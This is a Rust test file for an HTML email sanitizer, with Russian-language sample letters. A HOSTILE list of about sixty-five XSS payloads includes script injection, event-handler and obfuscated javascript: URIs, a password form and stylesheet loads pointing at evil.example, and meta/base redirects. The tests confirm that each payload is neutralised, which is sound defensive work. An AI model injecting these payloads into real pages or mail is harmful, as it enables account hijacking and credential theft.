//! Harmless letters stay as they are; hostile ones lose their sting and keep their words.

use super::*;
use proptest::prelude::*;

fn cleaned(html: &str) -> String {
    clean(html, Pictures::Blocked).html
}

#[test]
fn what_is_on_the_list_stays_as_it_was_written() {
    let letter = "<p>Здравствуйте, <b>Мария</b>!<br>Ваш <i>заказ</i>:</p><ul><li>стол</li><li>стул</li></ul>\
        <ol><li>раз</li></ol><blockquote><p>Когда?</p></blockquote><p><u>Завтра</u>, <em>до</em> <strong>десяти</strong></p>";
    assert_eq!(cleaned(letter), letter);
}

#[test]
fn a_link_opens_apart_and_tells_nothing() {
    let expected = "<a href=\"https://shop.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">сюда</a>";
    for written in [
        "<a href='https://shop.example/?a=1&b=2'>сюда</a>",
        "<A HREF=https://shop.example/?a=1&amp;b=2 onclick=steal()>сюда</A>",
        "<a target=_top href=\"https://shop.example/?a=1&b=2\" href=\"javascript:x\">сюда</a>",
    ] {
        assert_eq!(cleaned(written), expected);
    }
    assert!(cleaned("<a href='mailto:a@b.example'>письмо</a>").contains("mailto:a@b.example"));
}

#[test]
fn blocks_of_other_names_become_paragraphs_and_cells_are_told_apart() {
    assert_eq!(cleaned("<div>раз</div><h1>два</h1>"), "<p>раз</p><p>два</p>");
    assert_eq!(cleaned("<table><tr><td>а</td><td>б</td></tr></table>"), "<p> а б</p>");
}

#[test]
fn what_was_left_open_is_closed_in_order() {
    for (written, expected) in [
        ("<p><b>раз", "<p><b>раз</b></p>"),
        ("<b><i>раз</b>два</i>", "<b><i>раз</i></b>два"),
        ("раз</p></b>два", "раздва"),
        ("<p>раз<p>два", "<p>раз</p><p>два</p>"),
        ("<ul><li>раз<li>два</ul>", "<ul><li>раз</li><li>два</li></ul>"),
        ("<p>раз<ul><li>два</li></ul>", "<p>раз</p><ul><li>два</li></ul>"),
    ] {
        assert_eq!(cleaned(written), expected, "{written}");
    }
}

#[test]
fn pictures_are_counted_and_shown_only_when_asked_for() {
    let letter = "<p>Вот:<img src=\"https://t.example/p.gif\" alt=\"снимок\" onerror=x><img src=cid:7></p>";
    let blocked = clean(letter, Pictures::Blocked);
    assert_eq!((blocked.html.as_str(), blocked.pictures), ("<p>Вот:</p>", 1));
    let shown = clean(letter, Pictures::Shown);
    assert_eq!(shown.html, "<p>Вот:<img src=\"https://t.example/p.gif\" alt=\"снимок\"></p>");
}

/// What mail readers were broken with.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script><!--</script><b>--></b>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://e.example/\" onload=\"alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:x'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=\"https://ok.example/\" style=\"position:fixed;inset:0\" onmouseover=alert(1)>x</a>",
    "<a href=\"https://ok.example/&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<table background=https://evil.example/t.gif><td background=x>x</td></table>",
    "<body onload=alert(1)><p>x</p></body>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!-- <p> --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<p <script>alert(1)</script>>x",
    "<p title='><script>alert(1)</script>'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p =onclick=alert(1)>x</p>",
    "<p\u{c}onclick=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&ltscript&gtalert(1)",
    "<a href=\"https://ok.example/\"><a href='javascript:x'>x</a></a>",
    "<video src=x onerror=alert(1)><source src=x></video><audio src=x>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<b onfocus=alert(1) autofocus tabindex=1>x</b>",
    "<b",
    "<",
    "</",
    "<a href=\"https://ok.example",
    "<a href='https://ok.example/'",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
];

/// Whether a text is made of nothing but escaped words and the tags that this module writes.
fn is_harmless(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let from = &rest[start..];
        let end = from.find('>').ok_or("a tag without an end")?;
        let tag = &from[1..end];
        let bare = tag.strip_prefix('/').unwrap_or(tag);
        let link = |it: &str| {
            let href = it
                .strip_prefix("a href=\"")?
                .strip_suffix("\" target=\"_blank\" rel=\"noopener noreferrer\"")?;
            let lower = href.to_lowercase();
            (LINKS.iter().any(|begin| lower.starts_with(begin)) && !href.contains(['"', '<', '\'']))
                .then_some(())
        };
        if !KEPT.contains(&bare) && bare != "br" && link(tag).is_none() {
            return Err(format!("the tag <{tag}>"));
        }
        rest = &from[end + 1..];
    }
    Ok(())
}

#[test]
fn nothing_hostile_comes_through() {
    for letter in HOSTILE {
        for written in [
            (*letter).to_owned(),
            format!("<p>до {letter} после</p>"),
            format!("<b title='{letter}'>{letter}"),
        ] {
            let clean = cleaned(&written);
            assert_eq!(is_harmless(&clean), Ok(()), "{written} became {clean}");
            assert_eq!(cleaned(&clean), clean, "{written} is clean only at the second time");
        }
    }
}

#[test]
fn the_words_around_something_hostile_stay() {
    assert_eq!(cleaned("<p>до<script>x</script>после</p>"), "<p>допосле</p>");
    assert_eq!(cleaned("a < b && c > d"), "a &lt; b &amp;&amp; c &gt; d");
    assert_eq!(cleaned("<font color=red>важно</font>"), "важно");
}

#[test]
fn tags_in_tags_without_end_do_not_pile_up() {
    let deep = "<blockquote>".repeat(5_000) + "слова";
    assert_eq!(cleaned(&deep).matches("<blockquote>").count(), DEEPEST);
    assert!(cleaned(&deep).contains("слова"));
}

#[test]
fn the_words_of_a_letter_read_as_text() {
    let letter = "<p>Здравствуйте!</p><p>Ваш заказ:<br>стол</p><ul><li>раз</li><li>два</li></ul>\
        <p><a href=\"https://shop.example/1\">здесь</a> и <a href=\"https://shop.example/\">https://shop.example/</a></p>";
    let text = "Здравствуйте!\nВаш заказ:\nстол\n• раз\n• два\nздесь (https://shop.example/1) и https://shop.example/";
    assert_eq!(plain(letter), text);
    assert_eq!(plain("<p>&lt;b&gt; &amp; &laquo;да&raquo;</p>"), "<b> & «да»");
}

#[test]
fn text_becomes_html_and_text_again() {
    let text = "Раз <b>\nдва & три";
    assert_eq!(from_plain(text), "<p>Раз &lt;b&gt;<br>два &amp; три</p>");
    assert_eq!(plain(&from_plain(text)), text);
}

proptest! {
    #[test]
    fn whatever_is_written_comes_out_harmless(html in "[<>/a-z='\" &;#\\-!pbi]{0,80}") {
        let clean = cleaned(&html);
        prop_assert_eq!(is_harmless(&clean), Ok(()));
        prop_assert_eq!(cleaned(&clean), clean);
    }

    #[test]
    fn anything_at_all_comes_out_harmless(html in any::<String>()) {
        prop_assert_eq!(is_harmless(&cleaned(&html)), Ok(()));
    }
}
